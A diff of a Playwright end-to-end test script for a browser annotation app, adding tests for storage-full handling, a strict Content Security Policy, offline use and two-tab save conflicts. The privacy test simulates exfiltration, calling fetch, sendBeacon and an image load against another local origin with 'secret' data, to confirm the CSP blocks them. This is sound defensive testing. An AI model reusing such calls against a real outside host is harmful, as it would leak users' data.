@@ -8,9 +8,8 @@
 // Env: PRESSMARK_DIST (default dist), PRESSMARK_CHROMIUM (default
 // /usr/bin/chromium), PRESSMARK_E2E_ONLY=substring (run matching steps only).
 
-import { createRequire } from 'node:module';
 import { fileURLToPath } from 'node:url';
-import http from 'node:http';
+import { loadPlaywright, serve, guardRequests, waitSaved, CHROMIUM, CHROMIUM_ARGS } from './lib.mjs';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -28,13 +27,7 @@ for (const ev of ['uncaughtException', 'unhandledRejection']) {
 
 const here = path.dirname(fileURLToPath(import.meta.url));
 const root = path.resolve(here, '../..');
-let playwright;
-try {
-  playwright = createRequire(import.meta.url)('playwright-core'); // NODE_PATH
-} catch {
-  playwright = createRequire(path.join(root, '.tools/node/package.json'))('playwright-core');
-}
-const { chromium } = playwright;
+const { chromium } = loadPlaywright(root);
 const axePath = (() => {
   for (const base of [...(process.env.NODE_PATH || '').split(path.delimiter).filter(Boolean), path.join(root, '.tools/node/node_modules')]) {
     const p = path.join(base, 'axe-core/axe.min.js');
@@ -60,25 +53,9 @@ const GOLD = fs.existsSync(goldPath)
   : fs.readFileSync(path.join(root, 'assets/sample.txt'), 'utf8');
 
 // ------------------------------------------------------------ server
-const types = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.wasm': 'application/wasm', '.css': 'text/css', '.json': 'application/json' };
-const server = http.createServer((req, res) => {
-  let p = decodeURIComponent(new URL(req.url, 'http://localhost').pathname);
-  if (p.endsWith('/')) p += 'index.html';
-  const f = path.normalize(path.join(dist, p));
-  if (!f.startsWith(dist)) { res.writeHead(403); res.end(); return; }
-  fs.readFile(f, (err, data) => {
-    if (err) { res.writeHead(404); res.end('not found'); return; }
-    res.writeHead(200, { 'content-type': types[path.extname(f)] || 'application/octet-stream', 'cache-control': 'no-store' });
-    res.end(data);
-  });
-});
-await new Promise((r) => server.listen(0, '127.0.0.1', r));
-const URL_ = `http://127.0.0.1:${server.address().port}/`;
+const { server, url: URL_ } = await serve(dist);
 
-const browser = await chromium.launch({
-  executablePath: process.env.PRESSMARK_CHROMIUM || '/usr/bin/chromium',
-  args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'],
-});
+const browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
 
 // ------------------------------------------------------------ harness
 const problems = []; // console errors and page errors, from every page
@@ -103,6 +80,7 @@ function eq(a, b, msg) {
 
 async function newPage(ctxOpts = {}, { width = 1280, height = 900 } = {}) {
   const context = await browser.newContext({ viewport: { width, height }, acceptDownloads: true, ...ctxOpts });
+  guardRequests(context, URL_, (msg) => problems.push(msg));
   const page = await context.newPage();
   page.on('console', (m) => { if (m.type() === 'error') problems.push(`console error: ${m.text()}`); });
   page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
@@ -235,7 +213,8 @@ async function dragSelect(page, needle, nth = 0) {
 }
 
 async function axe(page, what) {
-  await page.addScriptTag({ path: axePath });
+  // Evaluated through DevTools: the page's CSP refuses an injected <script>.
+  await page.evaluate(fs.readFileSync(axePath, 'utf8'));
   const res = await page.evaluate(async () => {
     // eslint-disable-next-line no-undef
     const r = await axe.run(document, { resultTypes: ['violations'] });
@@ -244,6 +223,16 @@ async function axe(page, what) {
   for (const v of res) console.log(`     axe (${what}) ${v.impact}: ${v.id} — ${v.help} ${JSON.stringify(v.nodes)}`);
   const bad = res.filter((v) => v.impact === 'serious' || v.impact === 'critical');
   assert(bad.length === 0, `${bad.length} serious/critical axe violations on ${what}: ${bad.map((v) => v.id).join(', ')}`);
+}
+
+/** Forgets the work saved in this browser (IndexedDB) for the page's origin. */
+async function clearSavedWork(p) {
+  await p.evaluate(() => new Promise((resolve, reject) => {
+    const r = indexedDB.deleteDatabase('pressmark');
+    r.onsuccess = () => resolve();
+    r.onerror = () => reject(r.error);
+    r.onblocked = () => setTimeout(resolve, 200);
+  }));
 }
 
 /** Applies the same edits the test makes to a downloaded document. */
@@ -439,7 +428,7 @@ await step('copy JSON: the clipboard holds the same JSON', async () => {
 });
 
 await step('reload: everything is still there (document and history)', async () => {
-  await page.waitForTimeout(400); // autosave is debounced
+  await waitSaved(page);
   await page.reload();
   await page.waitForSelector('.article .para');
   eq(await view(page), viewOf(final), 'the view after reloading');
@@ -664,7 +653,7 @@ await step('imported highlights: explained, kept by Re-run rules and a reload, e
   await p.keyboard.press('Delete');
   await p.waitForSelector(`.article mark[data-id="${victim.id}"]`, { state: 'detached' });
   assert(await p.isVisible('.badge'), 'unsaved corrections');
-  await p.waitForTimeout(400);
+  await waitSaved(p);
   await p.reload();
   await p.waitForSelector('.article .para');
   eq(await p.$$eval('.article mark[data-source="import"]', (ms) => new Set(ms.map((m) => m.dataset.id)).size), sources - 1, 'imported highlights are still imported after a reload');
@@ -820,7 +809,7 @@ await step('New article asks before discarding unsaved corrections', async () =>
   await p.getByRole('button', { name: 'New article' }).click();
   await p.getByLabel('Article text').waitFor();
   eq(asked, 2, 'asked again');
-  await p.waitForTimeout(400);
+  await waitSaved(p);
   await p.reload();
   await p.getByLabel('Article text').waitFor();
   assert(!(await p.isVisible('.article')), 'the discarded article does not come back');
@@ -979,6 +968,7 @@ await step('rules: export, clear storage, reload, import the file: the same resu
   eq(fs.readFileSync(exportedRules, 'utf8'), 'ORG Zorblax Dynamics\n', 'the .rules file, one rule a line');
   eq(await p.evaluate(() => localStorage.getItem('pressmark.rules')), 'ORG Zorblax Dynamics\n', 'saved on their own key');
   await p.evaluate(() => localStorage.clear());
+  await clearSavedWork(p);
   await p.reload();
   await p.getByLabel('Article text').waitFor();
   await openRules(p);
@@ -1126,19 +1116,126 @@ await step('rules at 390 px: the panel and the preview fit', async () => {
   await rulesPage.context.close();
 });
 
-await step('storage full: a visible warning, the work goes on', async () => {
+await step('storage full: a visible warning, a download right there, the work goes on', async () => {
   const { context, page: p } = await newPage();
   await p.evaluate(() => {
-    Storage.prototype.setItem = function () { throw new DOMException('full', 'QuotaExceededError'); };
+    const full = () => { throw new DOMException('full', 'QuotaExceededError'); };
+    Storage.prototype.setItem = full;
+    IDBObjectStore.prototype.put = full;
+    IDBObjectStore.prototype.add = full;
   });
   await p.getByRole('button', { name: 'Load sample article' }).click();
   await p.waitForSelector('.article .para');
-  const alert = p.getByRole('alert');
-  await alert.waitFor({ timeout: 3000 });
+  const alert = p.locator('[data-testid="save-failed"]');
+  await alert.waitFor({ timeout: 5000 });
   assert(/storage is full/i.test(await alert.textContent()), 'warns that the work is not saved');
+  assert((await p.textContent('[data-testid="save-mark"]')).includes('Not saved'), 'the title bar says so too');
   await p.click('.article mark[data-id]');
   await p.keyboard.press('Delete');
   assert(await p.getByRole('button', { name: 'Undo' }).isEnabled(), 'editing still works');
+  // the way out is offered where the warning is
+  const [dl] = await Promise.all([p.waitForEvent('download'), alert.getByRole('button', { name: 'Download Pressmark JSON' }).click()]);
+  const file = path.join(outDir, `full-${dl.suggestedFilename()}`);
+  await dl.saveAs(file);
+  const json = JSON.parse(fs.readFileSync(file, 'utf8'));
+  assert(json.text === GOLD || json.text.length > 100, 'the download holds the article');
+  await context.close();
+});
+
+await step('privacy: a strict CSP, and a request to another origin is refused', async () => {
+  const { context, page: p } = await newPage();
+  const csp = await p.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
+  for (const d of ["default-src 'self'", "connect-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]) {
+    assert(csp.includes(d), `the CSP has ${d}: ${csp}`);
+  }
+  eq(await p.$$eval('script:not([src])', (s) => s.length), 0, 'no inline script');
+  // what a compromised dependency or a pasted link would try: all refused
+  // by the browser before anything leaves (a violation event each)
+  const other = URL_.replace('127.0.0.1', '127.0.0.2');
+  const tries = await p.evaluate(async (other) => {
+    const seen = [];
+    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
+    const out = {};
+    out.fetch = await fetch(other + 'leak?text=secret').then(() => 'sent', (e) => `refused: ${e.name}`);
+    out.beacon = (() => { try { return navigator.sendBeacon(other + 'b', 'secret') ? 'queued' : 'refused'; } catch (e) { return `refused: ${e.name}`; } })();
+    const img = new Image();
+    out.image = await new Promise((r) => { img.onload = () => r('loaded'); img.onerror = () => r('refused'); img.src = other + 'pixel.png'; });
+    await new Promise((r) => setTimeout(r, 200));
+    out.violations = [...new Set(seen)].sort();
+    return out;
+  }, other);
+  assert(tries.fetch.startsWith('refused'), `fetch to another origin: ${tries.fetch}`);
+  eq(tries.image, 'refused', 'an image from another origin');
+  assert(tries.violations.includes('connect-src') && tries.violations.includes('img-src'), `the CSP refused them: ${tries.violations}`);
+  // those refusals are console errors by design: not counted as problems
+  for (let i = problems.length - 1; i >= 0; i--) if (/Content Security Policy|127\.0\.0\.2/.test(problems[i])) problems.splice(i, 1);
+  await context.close();
+});
+
+await step('offline: after one visit the app loads and annotates with no network', async () => {
+  const { context, page: p } = await newPage();
+  await p.evaluate(async () => { await navigator.serviceWorker.ready; });
+  // the page that registered it is controlled after a reload (clients.claim)
+  await p.waitForFunction(() => !!navigator.serviceWorker.controller, null, { timeout: 10000 });
+  await context.setOffline(true);
+  await p.reload();
+  await p.waitForSelector('.app');
+  await p.getByRole('button', { name: 'Load sample article' }).click();
+  await p.waitForSelector('.article mark[data-id]');
+  const n = await p.$$eval('.article mark[data-id]', (ms) => ms.length);
+  assert(n > 10, `highlights offline: ${n}`);
+  const cached = await p.evaluate(async () => (await caches.keys()).filter((k) => k.startsWith('pressmark-')).length);
+  eq(cached, 1, 'one cache, of this build');
+  await context.setOffline(false);
+  await context.close();
+});
+
+await step('two tabs: a save from the other tab is noticed, and the newer version offered', async () => {
+  const { context, page: a } = await newPage();
+  await a.getByRole('button', { name: 'Load sample article' }).click();
+  await a.waitForSelector('.article mark[data-id]');
+  await waitSaved(a);
+  const b = await context.newPage();
+  b.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
+  await b.goto(URL_);
+  await b.waitForSelector('.article mark[data-id]');
+  const first = await a.$eval('.article mark[data-id]', (m) => m.dataset.id);
+  eq(await b.$eval('.article mark[data-id]', (m) => m.dataset.id), first, 'the second tab opens the saved article');
+  // tab A deletes a highlight and saves
+  await a.bringToFront();
+  await a.click(`.article mark[data-id="${first}"]`);
+  await a.keyboard.press('Delete');
+  await waitSaved(a);
+  // tab B, not knowing, edits too: nothing is overwritten, the user is asked
+  await b.bringToFront();
+  const second = await b.$$eval('.article mark[data-id]', (ms) => ms[1].dataset.id);
+  await b.click(`.article mark[data-id="${second}"]`);
+  await b.keyboard.press('Delete');
+  const banner = b.locator('[data-testid="save-conflict"]');
+  await banner.waitFor({ timeout: 5000 });
+  assert((await b.textContent('[data-testid="save-mark"]')).includes('Not saved'), 'B says it is not saved');
+  // A's save is intact
+  await a.reload();
+  await a.waitForSelector('.article mark[data-id]');
+  assert(!(await a.isVisible(`.article mark[data-id="${first}"]`)), 'A keeps its deletion');
+  assert(await a.isVisible(`.article mark[data-id="${second}"]`), 'B did not overwrite A');
+  // B takes the newer version
+  await b.bringToFront();
+  await banner.getByRole('button', { name: 'Load the newer version' }).click();
+  await b.waitForSelector('.article mark[data-id]');
+  assert(!(await b.isVisible(`.article mark[data-id="${first}"]`)), 'B shows A’s deletion');
+  assert(await b.isVisible(`.article mark[data-id="${second}"]`), 'and not its own unsaved one');
+  // and "keep mine" overwrites on purpose
+  await b.click(`.article mark[data-id="${second}"]`);
+  await b.keyboard.press('Delete');
+  await waitSaved(b);
+  await a.bringToFront();
+  await a.locator('[data-testid="save-conflict"]').waitFor({ timeout: 5000 });
+  await a.getByRole('button', { name: "Keep this tab's version" }).click();
+  await waitSaved(a);
+  await b.reload();
+  await b.waitForSelector('.article mark[data-id]');
+  assert(await b.isVisible(`.article mark[data-id="${second}"]`), 'A’s version kept on purpose');
   await context.close();
 });
 
